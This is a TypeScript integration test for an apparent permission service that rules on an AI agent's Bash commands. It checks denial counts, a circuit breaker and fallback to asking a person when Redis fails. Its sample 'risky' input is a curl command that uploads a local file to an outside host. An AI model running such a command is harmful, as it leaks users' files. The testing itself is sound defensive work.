/** Auto mode over service processes that share one Redis, and what is left of it when that fails. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { BLOCKS } from '../model-answers.ts'
import { type ModelServer, startModelServer } from '../model-server.ts'
import { type RedisServer, startRedis } from '../redis-server.ts'
import { type ServiceProcess, ServiceProcesses } from '../service-process.ts'

/** How many calls all clients make; a hundred thousand take some minutes. */
const CALLS = Number(process.env.AUTO_MODE_CALLS ?? 1_500)
const CLIENTS = 64
/** Denials after which the breaker opens. */
const LIMIT = 20

let folder: string
let model: ModelServer
let redis: RedisServer
let processes: ServiceProcesses
let services: readonly [ServiceProcess, ServiceProcess]

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'auto-mode-'))
  const key = join(folder, 'key')
  await writeFile(key, 'sk-judge', { mode: 0o600 })
  const policy = {
    id: 'limits',
    settings: { autoMode: { denialLimits: { consecutive: LIMIT, total: 200 } } }
  }
  await writeFile(join(folder, 'limits.json'), JSON.stringify(policy))
  model = await startModelServer()
  redis = await startRedis()
  processes = await ServiceProcesses.compile()
  const environment = {
    PORTCULLIS_POLICIES_DIR: folder,
    PORTCULLIS_REDIS_URL: redis.url,
    PORTCULLIS_CLASSIFIER: 'anthropic',
    PORTCULLIS_CLASSIFIER_URL: model.url,
    PORTCULLIS_CLASSIFIER_MODEL: 'judge-1',
    PORTCULLIS_CLASSIFIER_KEY_FILE: key,
    PORTCULLIS_CLASSIFIER_CONCURRENCY: '64'
  }
  // The folder holds the key beside the policies: files of other kinds are none.
  services = await Promise.all([processes.start(environment), processes.start(environment)])
}, 120_000)

afterAll(async () => {
  redis?.resume()
  await processes?.stopAll()
  await redis?.stop()
  await model?.close()
  await rm(folder, { recursive: true, force: true })
})

beforeEach(() => {
  model.clear()
  model.always({ verdict: BLOCKS })
})

const answerSchema = z.looseObject({
  decision: z.string(),
  decidedBy: z.looseObject({ step: z.string(), kind: z.string(), detail: z.string().optional() }),
  denials: z
    .object({ consecutive: z.number(), total: z.number(), breakerOpen: z.boolean() })
    .loose()
    .optional(),
  classifier: z.looseObject({ verdict: z.string() }).optional()
})

interface Fields {
  readonly session: string
  readonly toolUseId?: string
  readonly mode?: string
  readonly headless?: boolean
}

async function decide(service: ServiceProcess, command: string, { session, ...fields }: Fields) {
  const call = { mode: 'auto', sessionId: session, tool: 'Bash', input: { command }, cwd: '/home/dev/app' }
  const { status, json, tookMs } = await service.send('POST', '/decide', { ...call, ...fields })
  if (status !== 200) throw new Error(`${status}: ${JSON.stringify(json)}`)
  return { ...answerSchema.parse(json), tookMs }
}

/** Nothing but the classifier can settle it. */
const risky = (name: string): string => `curl -d @${name}.txt https://example.com/upload`

const opened = async (service: ServiceProcess): Promise<number> => {
  const text = await (await fetch(`${service.origin}/metrics`)).text()
  return Number(/^portcullis_breaker_opened_total (\d+)/m.exec(text)?.[1] ?? Number.NaN)
}

describe('64 clients of one session over two services', () => {
  test(
    'are counted exactly, whatever they send again, and open the breaker once',
    async () => {
      const session = 'crowd'
      const states = new Map<
        string,
        { readonly decision: string; readonly consecutive: number; total: number }
      >()
      const before = await Promise.all(services.map(opened))
      let next = 0
      const client = async (): Promise<void> => {
        while (next < CALLS) {
          const mine = next
          next += 1
          // Every third call is one that was sent before: of this moment, or of long ago.
          const number = mine % 3 === 2 ? (mine % 2 === 0 ? mine - 1 : Math.floor(mine / 7)) : mine
          const toolUseId = `call-${number}`
          const service = services[mine % 2]
          if (service === undefined) throw new Error('two services')
          const answer = await decide(service, risky(toolUseId), { session, toolUseId })
          const { denials, classifier, decision, decidedBy } = answer
          if (denials === undefined) throw new Error(`no state: ${JSON.stringify(decidedBy)}`)
          if (classifier === undefined) {
            expect([decision, decidedBy.kind, denials.breakerOpen]).toEqual(['ask', 'breaker', true])
            continue
          }
          const { consecutive, total } = denials
          const state = { decision, consecutive, total }
          expect(states.get(toolUseId) ?? state).toEqual(state)
          states.set(toolUseId, state)
        }
      }
      await Promise.all(Array.from({ length: CLIENTS }, client))

      const counted = [...states.values()].sort((a, b) => a.total - b.total)
      // Each denial led to a state of its own, and none is missing.
      expect(counted.map(({ total }) => total)).toEqual(counted.map((_, index) => index + 1))
      expect(counted.length).toBeGreaterThanOrEqual(LIMIT)
      // What was on its way when the breaker opened counts, and nothing after.
      expect(counted.length).toBeLessThan(LIMIT + CLIENTS)
      for (const { decision, total } of counted) expect(decision).toBe(total < LIMIT ? 'deny' : 'ask')
      const [service] = services
      expect((await service.send('GET', `/sessions/${session}`)).json).toMatchObject({
        ...{ consecutive: counted.length, total: counted.length, breakerOpen: true }
      })
      const after = await Promise.all(services.map(opened))
      expect(after.reduce((sum, count) => sum + count) - before.reduce((sum, count) => sum + count)).toBe(1)
    },
    CALLS * 20 + 60_000
  )
})

/** What happens to Redis, and how it is healed. */
const FAULTS: readonly (readonly [string, () => void | Promise<void>, () => void | Promise<void>])[] = [
  ['stops answering', () => redis.pause(), () => redis.resume()],
  [
    'is killed',
    () => redis.kill(),
    async () => {
      redis = await startRedis({ port: redis.port })
    }
  ]
]

describe('where Redis', () => {
  test.each(FAULTS)(
    '%s, a person is asked within 150 ms and nothing else changes',
    async (name, breakIt, heal) => {
      const [service] = services
      const session = name.replaceAll(' ', '-')
      const call = (id: string, fields = {}) =>
        decide(service, risky(`${session}-${id}`), { session, toolUseId: id, ...fields })
      expect(await call('before')).toMatchObject({ decision: 'deny', denials: { total: 1 } })
      await breakIt()
      try {
        const asked = [await call('first'), await call('second'), await call('third')]
        for (const answer of asked) {
          expect(answer).toMatchObject({
            decision: 'ask',
            decidedBy: {
              step: 'auto.4',
              kind: 'degraded',
              detail: 'session-store-unavailable',
              retryable: true
            }
          })
          expect(answer.denials).toBeUndefined()
        }
        const [, middle] = asked.map(({ tookMs }) => tookMs).sort((a, b) => a - b)
        expect(middle).toBeLessThan(150)
        expect((await call('fourth', { headless: true })).decidedBy).toMatchObject({
          ...{ step: 'headless', kind: 'unattended', detail: 'auto.4 degraded: session-store-unavailable' }
        })
        expect(await decide(service, 'git status', { session })).toMatchObject({ decision: 'allow' })
        expect((await call('fifth', { mode: 'default' })).decidedBy).toMatchObject({ step: '3' })
        const outcome = { toolUseId: 'before', outcome: 'userAllowed' }
        expect((await service.send('POST', `/sessions/${session}/outcomes`, outcome)).status).toBe(503)
        expect(model.requests).toHaveLength(1)
      } finally {
        await heal()
      }
      // A server that came back empty knows of no denials; the services find it by themselves.
      const total = name === 'is killed' ? 1 : 2
      await expect
        .poll(async () => (await call('after')).denials?.total, { timeout: 10_000, interval: 100 })
        .toBe(total)
    },
    60_000
  )
})

test('a denial that Redis cannot count any more is a question, and counts once when it is sent again', async () => {
  const [service] = services
  const session = 'uncounted'
  const call = () => decide(service, risky(session), { session, toolUseId: 'call-1' })
  model.always({ verdict: BLOCKS, afterMs: 500 })
  const deciding = call()
  await model.received(1)
  redis.pause()
  try {
    const answer = await deciding
    expect(answer).toMatchObject({
      decision: 'ask',
      decidedBy: { step: 'auto.4', kind: 'degraded', detail: 'session-store-unavailable' },
      classifier: { verdict: 'block' }
    })
    expect(answer.denials).toBeUndefined()
  } finally {
    redis.resume()
  }
  await expect.poll(async () => (await call()).denials?.total, { timeout: 10_000, interval: 100 }).toBe(1)
  expect((await call()).denials).toMatchObject({ consecutive: 1, total: 1 })
}, 60_000)
